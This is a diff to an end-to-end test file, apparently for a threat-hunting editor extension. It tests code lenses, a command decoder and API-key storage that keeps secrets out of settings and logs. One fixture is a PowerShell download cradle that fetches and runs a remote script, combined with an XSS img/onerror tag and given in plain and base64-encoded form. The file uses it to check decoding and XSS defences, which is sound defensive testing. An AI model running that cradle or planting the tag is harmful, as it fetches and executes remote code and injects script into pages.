@@ -714,9 +714,10 @@ async function workbenchSteps(page) {
     await page.keyboard.press('Enter');
     await page.locator('.statusbar-item', { hasText: 'Demo data' }).first().waitFor({ timeout: 10_000 });
 
-    // TODO: the Run lenses do not appear in the untitled editor that "Open Demo Hunt" creates,
-    // although the server returns its blocks as document symbols; lenses in saved files are
-    // checked by step 15. Until that is found, run the chart block with Shift+Enter.
+    // TODO: an untitled editor that the walkthrough's button opens gets no Run lenses in
+    // code-server 4.139.1, because the workbench never calls the lens provider for it. The same
+    // editor opened from the command palette gets them (step 20c). Until the cause is found,
+    // run the chart block with Shift+Enter here.
     await clickLine(page, '| render columnchart');
     await page.keyboard.press('Shift+Enter');
     const frame = resultsFrame(page);
@@ -728,6 +729,140 @@ async function workbenchSteps(page) {
       ['Computer', 'string'],
       ['Processes', 'long'],
     ]);
+  });
+
+  await step(page, '20c-demo-hunt-lenses', async () => {
+    // An untitled KQL editor (scheme `untitled`) gets one Run lens per query block, and the
+    // first lens runs the first block, which has no chart.
+    await runFromPalette(page, 'Quarry: Open Demo Hunt');
+    const editor = page.locator('.editor-group-container.active .monaco-editor').first();
+    await editor.locator('.view-line', { hasText: 'render columnchart' }).first().waitFor({ timeout: 30_000 });
+    const lenses = editor.locator('.codelens-decoration a').filter({ hasText: /^\s*Run\s*$/ });
+    await lenses.nth(2).waitFor({ timeout: 30_000 });
+    assert.equal(await lenses.count(), 3);
+    await lenses.nth(0).click();
+    const frame = resultsFrame(page);
+    await waitForText(frame.locator('#summary .source'), 'Source: demo', 60_000, { exact: true });
+    await frame.locator('table.grid').waitFor({ timeout: 30_000 });
+    const table = await readTable(frame);
+    assert.deepEqual(table.headers, [
+      ['Account', 'string'],
+      ['Failures', 'long'],
+    ]);
+    assert.equal(await frame.locator('#chart').isHidden(), true);
+  });
+
+  await analysisSteps(page);
+  await secretSteps(page);
+}
+
+/** A PowerShell download cradle with a hostile tag, as `-EncodedCommand` (base64 of UTF-16LE). */
+const DECODED_SCRIPT = "<img src=x onerror=alert(7)> IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')";
+const ENCODED_COMMAND = 'PABpAG0AZwAgAHMAcgBjAD0AeAAgAG8AbgBlAHIAcgBvAHIAPQBhAGwAZQByAHQAKAA3ACkAPgAgAEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANAA1AC8AYQAuAHAAcwAxACcAKQA=';
+
+/**
+ * Returns the frame of the analysis webview once it shows an analysis of `kind`. The webview
+ * host nests the content in its own frames, so every frame of the page is checked.
+ */
+async function analysisFrame(page, kind, timeout) {
+  const deadline = Date.now() + timeout;
+  while (Date.now() < deadline) {
+    for (const frame of page.frames()) {
+      const found = await frame
+        .evaluate((expected) => document.body !== null && document.body.dataset.analysis === expected, kind)
+        .catch(() => false);
+      if (found) {
+        return frame;
+      }
+    }
+    await page.waitForTimeout(200);
+  }
+  throw new Error(`no analysis panel showing ${kind} after ${timeout} ms`);
+}
+
+/** Decodes a command line from the editor into the analysis panel. */
+async function analysisSteps(page) {
+  await step(page, '21-decode-selection', async () => {
+    await clickLine(page, '| render columnchart');
+    await page.keyboard.press('Control+End');
+    await page.keyboard.press('Enter');
+    await page.keyboard.type(`// powershell -NoP -enc ${ENCODED_COMMAND}`);
+    await page.keyboard.press('Home');
+    await page.keyboard.press('Shift+End');
+    await runFromPalette(page, 'Quarry: Decode Selection');
+
+    const frame = await analysisFrame(page, 'decode', 30_000);
+    const view = await frame.evaluate(() => ({
+      title: document.querySelector('.title')?.textContent,
+      encodings: Array.from(document.querySelectorAll('.layer-encoding')).map((node) => node.textContent),
+      previews: Array.from(document.querySelectorAll('pre.layer-preview')).map((node) => node.textContent),
+      indicators: Array.from(document.querySelectorAll('.indicator-value')).map((node) => node.textContent),
+      images: document.querySelectorAll('img').length,
+    }));
+    assert.equal(view.title, 'Decoded command');
+    assert.deepEqual(view.encodings, ['powershell-encoded-command']);
+    assert.deepEqual(view.previews, [DECODED_SCRIPT]);
+    assert.ok(view.indicators.includes('203.0.113.45'), JSON.stringify(view.indicators));
+    assert.equal(view.images, 0);
+  });
+}
+
+const API_KEY_NAME = 'e2e-vt';
+const API_KEY_VALUE = 'e2e-secret-value-5b1f';
+
+/** Stores an API key through the command and checks that no settings file contains it. */
+async function secretSteps(page) {
+  await step(page, '22-set-api-key', async () => {
+    await runFromPalette(page, 'Quarry: Set API Key');
+    const input = page.locator('.quick-input-widget input');
+    await input.waitFor({ state: 'visible' });
+    await input.fill(API_KEY_NAME);
+    await page.keyboard.press('Enter');
+    await page.locator('.quick-input-widget input[type="password"]').waitFor({ state: 'visible' });
+    await page.keyboard.type(API_KEY_VALUE);
+    await page.keyboard.press('Enter');
+    await page.locator('.notification-toast', { hasText: `Stored the API key ${API_KEY_NAME}` }).first().waitFor({ timeout: 15_000 });
+
+    const settingsFiles = [
+      path.join(WORKSPACE, '.vscode', 'settings.json'),
+      MACHINE_SETTINGS,
+      path.join(path.dirname(path.dirname(MACHINE_SETTINGS)), 'User', 'settings.json'),
+    ];
+    for (const file of settingsFiles) {
+      const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
+      assert.ok(!text.includes(API_KEY_VALUE), `${file} contains the API key`);
+    }
+    // The server logs the entry name, never the value, when the key reaches it.
+    const log = await waitForServerLog(`secret set from the editor entry="${API_KEY_NAME}"`, 15_000);
+    assert.ok(!log.includes(API_KEY_VALUE), 'the Quarry output channel contains the API key');
+  });
+}
+
+/** Polls the Quarry output channel's log files until one contains `text`, then returns their text. */
+async function waitForServerLog(text, timeout) {
+  const logs = path.join(path.dirname(path.dirname(MACHINE_SETTINGS)), 'logs');
+  const deadline = Date.now() + timeout;
+  let all = '';
+  while (Date.now() < deadline) {
+    all = listFiles(logs)
+      .filter((file) => file.endsWith('-Quarry.log'))
+      .map((file) => fs.readFileSync(file, 'utf8'))
+      .join('\n');
+    if (all.includes(text)) {
+      return all;
+    }
+    await new Promise((resolve) => setTimeout(resolve, 250));
+  }
+  throw new Error(`the Quarry output channel has no line with "${text}"`);
+}
+
+function listFiles(folder) {
+  if (!fs.existsSync(folder)) {
+    return [];
+  }
+  return fs.readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
+    const full = path.join(folder, entry.name);
+    return entry.isDirectory() ? listFiles(full) : [full];
   });
 }
 
